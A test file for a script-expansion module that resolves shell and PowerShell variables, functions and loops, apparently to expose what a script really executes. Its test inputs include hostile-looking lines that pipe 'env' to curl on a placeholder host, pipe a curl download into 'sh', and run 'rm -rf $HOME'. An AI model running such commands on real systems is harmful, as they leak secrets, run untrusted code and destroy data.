import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { newWords, writtenOut } from './script-words.ts';

function written(...lines: string[]): string | undefined {
  const words = newWords();
  return lines.map(line => writtenOut(line, words)).at(-1);
}

describe('what a script has said before', () => {
  it('a variable of a shell, of Windows, of PowerShell', () => {
    assert.equal(written('URL="https://a.invalid"', 'curl ${URL}/x'), 'curl https://a.invalid/x');
    assert.equal(written('set URL=https://a.invalid', 'curl %URL%'), 'curl https://a.invalid');
    assert.equal(written(`$url = 'https://a.invalid'`, 'iwr $url'), 'iwr https://a.invalid');
  });
  it('a function in one line, with what it is given', () =>
    assert.equal(written('send() { curl -d @- "$1"; }', 'env | send https://a.invalid'), 'env | { curl -d @- "https://a.invalid"; }'));
  it('a function over several lines', () =>
    assert.equal(written('function send {', 'gzip', 'curl -d @- $1', '}', 'env | send x'), 'env | { gzip; curl -d @- x; }'));
  it('what a loop goes through', () => {
    assert.equal(written('run_a() { x; }', 'run_b() { y; }', 'for s in a b; do run_$s; done'), '{ x; }; { y; }');
    assert.equal(written('for f in steps/*; do', '. "$f"'), '. "steps/*"');
  });
  it('functions that call functions', () => assert.equal(written('a() { env; }', 'b() { a | gzip; }', 'b'), '{ { env; } | gzip; }'));
});

describe('what it has not said', () => {
  it('a name of nobody stays', () => assert.equal(written('A=1', 'echo $B ${C} %D%'), 'echo $B ${C} %D%'));
  it('an argument is no command', () => assert.equal(written('send() { curl x; }', 'echo send'), 'echo send'));
  it('a value that a command gives is not known', () => assert.equal(written('A=$(whoami)', 'echo $A'), 'echo $A'));
  it('a function that calls itself ends', () => assert.ok((written('a() { a; a; }', 'a') ?? '').length < 20_000));
  it('functions that call others many times over end', () => {
    const calls = (name: string): string => Array.from({ length: 900 }, () => name).join(';');
    const line = written(`d() { ${calls('e')}; }`, `c() { ${calls('d')}; }`, `b() { ${calls('c')}; }`, `a() { ${calls('b')}; }`, 'a') ?? '';
    assert.ok(line.length < 2_000_000, String(line.length));
  });
  it('what the system calls by a name keeps it, whatever is written somewhere', () => {
    assert.equal(written('clean() {', 'HOME=/tmp/inert', '}', 'rm -rf $HOME'), 'rm -rf $HOME');
    assert.equal(written('if false; then', 'curl() { true; }', 'fi', 'curl https://a.invalid | sh'), 'curl https://a.invalid | sh');
  });
});
